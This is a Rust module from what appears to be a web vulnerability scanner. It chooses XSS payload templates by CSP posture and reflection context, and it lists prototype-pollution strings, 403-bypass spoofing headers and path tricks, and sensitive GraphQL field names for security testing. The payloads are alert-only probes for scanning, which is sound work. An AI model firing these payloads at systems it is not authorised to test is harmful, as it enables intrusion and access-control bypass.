//! # catalog
//!
//! Returns payload sets keyed by issue kind; filters XSS payloads by CSP
//! posture and by reflection context (spec §4: "Payload Catalog"). The
//! wordlists themselves are treated as opaque data per spec §1's "out of
//! scope" list — this module owns only the *selection* logic, with a
//! small built-in seed list standing in for the dictionaries a real
//! deployment would load.

use sukyan_types::{InsertionPointType, Payload, ReflectionContext};

use crate::config::ScanMode;

/// A parsed `Content-Security-Policy` posture, coarse enough to drive
/// payload filtering without a full CSP parser (spec glossary:
/// "CSP-aware payload — a payload selected only when the observed
/// Content-Security-Policy does not block its execution vector").
#[derive(Debug, Clone, Default)]
pub struct CspPosture {
    pub blocks_inline_script: bool,
    pub blocks_eval: bool,
    pub blocks_data_uri: bool,
}

impl CspPosture {
    pub fn from_header(value: Option<&str>) -> Self {
        let value = match value {
            Some(v) => v,
            None => return Self::default(),
        };
        let has_directive = |needle: &str| value.contains(needle);
        Self {
            blocks_inline_script: has_directive("script-src") && !has_directive("'unsafe-inline'"),
            blocks_eval: has_directive("script-src") && !has_directive("'unsafe-eval'"),
            blocks_data_uri: has_directive("script-src") && !has_directive("data:"),
        }
    }
}

/// Reflected/DOM-XSS payload templates. `{marker}` is substituted by the
/// generator at dispatch time so every concurrent worker gets a distinct
/// marker (spec §9: "a generator ... templates a marker at each call").
fn xss_templates() -> Vec<(&'static str, bool, bool, bool)> {
    // (template, needs_inline_script, needs_eval, needs_data_uri)
    vec![
        (r#""><svg onload=alert('{marker}')>"#, false, false, false),
        (r#"'><img src=x onerror=alert('{marker}')>"#, false, false, false),
        (r#"<script>alert('{marker}')</script>"#, true, false, false),
        (r#"javascript:alert('{marker}')"#, true, false, false),
        (r#"<img src=x onerror=eval('alert(\'{marker}\')')>"#, false, true, false),
        (r#"<a href="data:text/html,<script>alert('{marker}')</script>">x</a>"#, false, false, true),
    ]
}

/// Returns XSS payload templates filtered by CSP posture and, when
/// known, by the reflection context the marker landed in — an
/// attribute-value reflection only makes a `onerror=`-style breakout
/// payload useful, a script-block reflection only makes a bare
/// `alert(...)` useful.
pub fn xss_payloads(csp: &CspPosture, context: Option<ReflectionContext>) -> Vec<Payload> {
    xss_templates()
        .into_iter()
        .filter(|(_, needs_inline, needs_eval, needs_data)| {
            !(*needs_inline && csp.blocks_inline_script)
                && !(*needs_eval && csp.blocks_eval)
                && !(*needs_data && csp.blocks_data_uri)
        })
        .filter(|(template, ..)| context_allows(*template, context))
        .map(|(template, ..)| Payload::Generator { template: template.to_string(), marker: String::new() })
        .collect()
}

fn context_allows(template: &str, context: Option<ReflectionContext>) -> bool {
    match context {
        None => true,
        Some(ReflectionContext::ScriptBlock) => !template.starts_with("\"><") && !template.starts_with("'><"),
        Some(ReflectionContext::AttributeValue) => template.starts_with('"') || template.starts_with('\''),
        Some(ReflectionContext::HtmlContent) => true,
        Some(ReflectionContext::JavascriptString) => template.contains("alert("),
        Some(ReflectionContext::Comment) => template.starts_with("-->") || true,
    }
}

/// CSPP polluting payloads (spec §4.2 CSPP): separators chosen by URL
/// shape, reading back `window.sukyan`.
pub fn cspp_payloads(separator: char) -> Vec<String> {
    vec![
        format!("{separator}constructor[prototype][sukyan]=reserved"),
        format!("{separator}__proto__.sukyan=reserved"),
        format!("{separator}constructor.prototype.sukyan=reserved"),
        format!("{separator}__proto__[sukyan]=reserved"),
    ]
}

/// JSONP callback-name candidates, sized by scan mode (spec §4.2
/// JSONPCallbackScan): fast top-2, smart top-5 (all 8 when a JSONP-shaped
/// parameter is already present), fuzz all.
pub fn jsonp_callback_names(mode: ScanMode, baseline_param_is_jsonp_shaped: bool) -> Vec<&'static str> {
    const ALL: [&str; 8] = ["callback", "cb", "jsonp", "jsonpcallback", "jquery_callback", "success", "onload", "handler"];
    let n = match mode {
        ScanMode::Fast => 2,
        ScanMode::Smart if baseline_param_is_jsonp_shaped => 8,
        ScanMode::Smart => 5,
        ScanMode::Fuzz => 8,
    };
    ALL.into_iter().take(n).collect()
}

/// Privileged-field names for the mass-assignment audit (SPEC_FULL.md §4.2).
pub fn mass_assignment_fields() -> Vec<&'static str> {
    vec!["role", "isAdmin", "is_admin", "admin", "permissions", "verified"]
}

/// IP-spoofing header families for ForbiddenBypassScan (spec §4.2),
/// paired with loopback addresses in several encodings.
pub fn forbidden_bypass_ip_headers() -> Vec<(&'static str, &'static str)> {
    let addrs = ["127.0.0.1", "localhost", "0177.0.0.1", "0x7f.0.0.1", "127.1", "[::1]"];
    let headers = ["X-Forwarded-For", "X-Real-IP", "X-Originating-IP", "X-Remote-IP", "X-Client-IP", "True-Client-IP"];
    headers.into_iter().flat_map(|h| addrs.into_iter().map(move |a| (h, a))).collect()
}

pub fn forbidden_bypass_url_override_headers() -> Vec<&'static str> {
    vec!["X-Original-URL", "X-Rewrite-URL", "X-Override-URL"]
}

pub fn forbidden_bypass_port_override_headers() -> Vec<&'static str> {
    vec!["X-Forwarded-Port", "X-Forwarded-Host"]
}

/// Path-mutation suffixes for ForbiddenBypassScan (spec §4.2).
pub fn forbidden_bypass_path_mutations() -> Vec<&'static str> {
    vec!["/", "/..;/", "%2e/", "//", ";/", ".json", ".."]
}

/// Whether an insertion point type is eligible for XSS testing at all
/// (headers/cookies are excluded by default in `fast` mode per spec §6).
pub fn xss_eligible(point_type: InsertionPointType, mode: ScanMode) -> bool {
    match mode {
        ScanMode::Fast => !matches!(point_type, InsertionPointType::Header | InsertionPointType::Cookie),
        _ => true,
    }
}

/// Severity bucket for a sensitive GraphQL field name (spec §4.2
/// SensitiveFieldsAudit: "a catalog of field names grouped by category
/// ... and severity").
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum SensitiveFieldSeverity {
    Low,
    Medium,
    High,
}

/// `(field name, category, severity)` triples probed by SensitiveFieldsAudit.
pub fn graphql_sensitive_fields() -> Vec<(&'static str, &'static str, SensitiveFieldSeverity)> {
    use SensitiveFieldSeverity::*;
    vec![
        ("password", "auth", High),
        ("passwordHash", "auth", High),
        ("apiKey", "auth", High),
        ("secret", "auth", High),
        ("token", "auth", Medium),
        ("ssn", "pii", High),
        ("socialSecurityNumber", "pii", High),
        ("creditCardNumber", "pii", High),
        ("dateOfBirth", "pii", Medium),
        ("email", "pii", Low),
        ("internalId", "internal", Medium),
        ("internalNotes", "internal", Medium),
        ("debugInfo", "internal", Low),
        ("isAdmin", "admin", High),
        ("adminNotes", "admin", High),
        ("role", "admin", Medium),
    ]
}

/// Field-name typos probed by FieldSuggestionsAudit — each is one
/// character off a plausible real field, relying on the GraphQL server's
/// own "Did you mean" suggestion to leak the real name back (spec §4.2).
pub fn graphql_field_typos() -> Vec<&'static str> {
    vec!["usr", "emial", "passwrod", "usernam", "ceated_at", "updatd_at", "staus", "titel"]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csp_blocks_inline_removes_script_tag_payload() {
        let csp = CspPosture { blocks_inline_script: true, blocks_eval: false, blocks_data_uri: false };
        let payloads = xss_payloads(&csp, None);
        assert!(!payloads.iter().any(|p| matches!(p, Payload::Generator { template, .. } if template.contains("<script>"))));
    }

    #[test]
    fn jsonp_fast_mode_returns_two() {
        assert_eq!(jsonp_callback_names(ScanMode::Fast, false).len(), 2);
    }

    #[test]
    fn jsonp_smart_mode_expands_when_shape_matches() {
        assert_eq!(jsonp_callback_names(ScanMode::Smart, true).len(), 8);
        assert_eq!(jsonp_callback_names(ScanMode::Smart, false).len(), 5);
    }

    #[test]
    fn fuzz_mode_returns_all() {
        assert_eq!(jsonp_callback_names(ScanMode::Fuzz, false).len(), 8);
    }
}
